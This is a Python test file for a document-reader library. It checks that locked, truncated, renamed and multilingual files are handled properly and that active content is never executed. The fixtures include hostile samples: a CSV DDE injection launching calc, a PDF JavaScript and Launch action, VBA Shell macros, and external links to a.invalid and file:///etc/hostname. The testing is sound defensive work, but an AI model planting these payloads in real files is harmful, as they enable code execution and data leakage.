"""What people give by mistake and others on purpose: locked, cut, renamed, with macros and links, in all languages."""

from __future__ import annotations

import importlib.util
import io
import sys
import zipfile
from pathlib import Path

import pikepdf
import pytest
import test_reader_conformance as formats
from every import every
from ole_files import ole_file

from spanwise.errors import DamagedDocumentError, PasswordError
from spanwise.readers.registry import read_here as read
from spanwise.testing import ReaderConformance

_spec = importlib.util.spec_from_file_location("bombs", Path(__file__).parent.parent / "campaign" / "bombs.py")
assert _spec is not None
assert _spec.loader is not None
bombs = sys.modules.get("bombs") or importlib.util.module_from_spec(_spec)
if "bombs" not in sys.modules:
    sys.modules["bombs"] = bombs
    _spec.loader.exec_module(bombs)

FEE = "The fee is 5 dollars."
ROW = '<row r="1"><c r="A1" t="str"><v>Fee</v></c><c r="B1"><f>WEBSERVICE("http://a.invalid")</f><v>5</v></c></row>'
MACROS = ole_file({"VBA": {"dir": b'Shell "calc"'}})
OUTSIDE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r7" Type="x/attachedTemplate" Target="http://a.invalid/t.dotm" TargetMode="External"/>'
    '<Relationship Id="r8" Type="x/image" Target="file:///etc/hostname" TargetMode="External"/></Relationships>'
)
LOCKED = (
    '<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><m:file-entry m:full-path="content.xml">'
    "<m:encryption-data/></m:file-entry></m:manifest>"
)
MIXED = "The fee 费用是 5 美元 стоимость السعر 料金は 5 ドル 요금은 ราคา शुल्क, 5 €."
PDF, MAIL = formats.TestPdf().sample(), b"From: a@b.c\nTo: d@e.f\nSubject: fee\nMIME-Version: 1.0\nContent-Type: "


def opened(data: bytes) -> dict[str, str | bytes]:
    """The files of a package."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {name: package.read(name) for name in package.namelist()}


def with_files(case: type[ReaderConformance], more: dict[str, str | bytes]) -> bytes:
    """The sample of a format with further files in its package."""
    return formats.packed({**opened(case().sample()), **more})


def locked_pdf() -> bytes:
    made = io.BytesIO()
    with pikepdf.open(io.BytesIO(PDF)) as file:
        file.save(made, encryption=pikepdf.Encryption(owner="one", user="two"))
    return made.getvalue()


OFFICE = ole_file({"EncryptionInfo": b"\4\0\4\0", "EncryptedPackage": bytes(range(256)) * 20})
SHEET_MARK = "application/vnd.oasis.opendocument.spreadsheet"
ENCRYPTED = {
    "a.pdf": locked_pdf(),
    "a.docx": OFFICE,
    "a.xlsx": OFFICE,
    "a.pptx": OFFICE,
    "a.odt": with_files(formats.TestOdt, {"META-INF/manifest.xml": LOCKED, "content.xml": bytes(range(256))}),
    "a.ods": formats.packed(
        {"mimetype": SHEET_MARK, "META-INF/manifest.xml": LOCKED, "content.xml": bytes(range(256))}
    ),
    "a.eml": MAIL + b"multipart/encrypted; boundary=q\n\n--q\n\nhQ\n--q--\n",
}
ACTIVE = {
    "a.docm": with_files(formats.TestDocx, {"word/vbaProject.bin": MACROS, "word/_rels/settings.xml.rels": OUTSIDE}),
    "a.xlsm": bombs.xlsx(ROW, more={"xl/vbaProject.bin": MACROS, "xl/externalLinks/_rels/e.xml.rels": OUTSIDE}),
    "a.pptm": bombs.pptx(bombs.SHAPE, more={"ppt/vbaProject.bin": MACROS}),
    "a.pdf": bombs.page(
        bombs.stream(bombs.TEXT),
        catalog=b"/OpenAction << /S /JavaScript /JS (app.launchURL\\('http://a.invalid'\\)) >> "
        b"/AA << /WC << /S /Launch /F (calc.exe) >> >>",
    ),
    "a.html": b"<link rel=stylesheet href=http://a.invalid/a.css><iframe src=file:///etc/hostname></iframe>"
    b"<script>fetch('http://a.invalid')</script><p onclick='x()'>The fee is 5 dollars.<img src=http://a.invalid/a.png>",
    "a.md": b"![x](http://a.invalid/a.png) The fee is 5 dollars. [here](file:///etc/hostname)\n",
    "a.rtf": b'{\\rtf1 The fee is 5 dollars.{\\field{\\*\\fldinst INCLUDEPICTURE "http://a.invalid/a.png"}{\\fldrslt }}'
    b"{\\*\\template http://a.invalid/t.dotm}}",
    "a.csv": b"Item,Cost\n=cmd|' /C calc'!A0,5\n",
    "a.eml": MAIL
    + b"message/external-body; access-type=URL; URL=http://a.invalid\n\nContent-Type: text/plain\n\nfee\n",
}


@pytest.mark.parametrize("name", ENCRYPTED)
def test_a_locked_file_says_what_to_do(name: str) -> None:
    with pytest.raises(PasswordError, match=rf"^{name} is .*: .*(?:give|save)[^\n]*\.$"):
        read(ENCRYPTED[name], name=name)


@pytest.mark.parametrize("name", ACTIVE)
def test_macros_and_links_are_never_followed(name: str) -> None:
    class Active(ReaderConformance):
        reader = str(read(ACTIVE[name], name=name).format)

        def sample(self) -> bytes:
            return ACTIVE[name]

    Active.name = name
    Active().test_nothing_is_executed_fetched_or_written()
    assert any(word in line.text for line in Active().read(ACTIVE[name]).lines for word in ("5", "fee", "rent"))


@pytest.mark.parametrize(
    "case",
    [formats.TestDocx, formats.TestSheets, formats.TestSlides, formats.TestOdt, formats.TestEpub],
    ids=lambda case: case.name,
)
def test_a_package_that_is_cut_is_called_damaged_and_no_archive(case: type[ReaderConformance]) -> None:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as package:  # the mark of a kind comes first and is not packed
        for name, inside in opened(case().sample()).items():
            package.writestr(name, inside)
    data = made.getvalue()
    for part in (0.5, 0.95):
        with pytest.raises(DamagedDocumentError, match=r"cut off") as raised:
            read(data[: int(part * len(data))], name=case.name)
        assert "ZIP" not in str(raised.value)


@every("promised", ["a.txt", "a.md", "a.html", "a.csv", "a.pdf", "a.docx", "a.xlsx", "a"])
@every(
    "case",
    [formats.TestPdf, formats.TestDocx, formats.TestSheets, formats.TestOdt, formats.TestEpub, formats.TestRtf],
)
def test_content_counts_whatever_the_name_promises(case: type[ReaderConformance], promised: str) -> None:
    document = read(case().sample(), name=promised)
    assert document.format == case.reader
    assert (
        not Path(promised).suffix or "content_type" in {one.code for one in document.notices} or (promised == case.name)
    )


def test_a_message_with_the_name_of_a_document_is_told() -> None:
    with pytest.raises(DamagedDocumentError, match=r"looks like a message; save it as \.eml"):
        read(formats.TestMail().sample(), name="a.docx")


@pytest.mark.parametrize("name", ["a.txt", "a.md", "a.html", "a.csv", "a.docx"])
def test_a_line_of_many_languages_is_read_whole(name: str) -> None:
    data = bombs.docx(f"<w:p><w:r><w:t>{MIXED}</w:t></w:r></w:p>") if name == "a.docx" else f"{MIXED}\n".encode()
    if name == "a.html":
        data = b"<meta charset=utf-8><p>" + data
    assert MIXED.split() == [
        word for line in read(data, name=name).lines for word in line.text.replace(" | ", ", ").split()
    ]
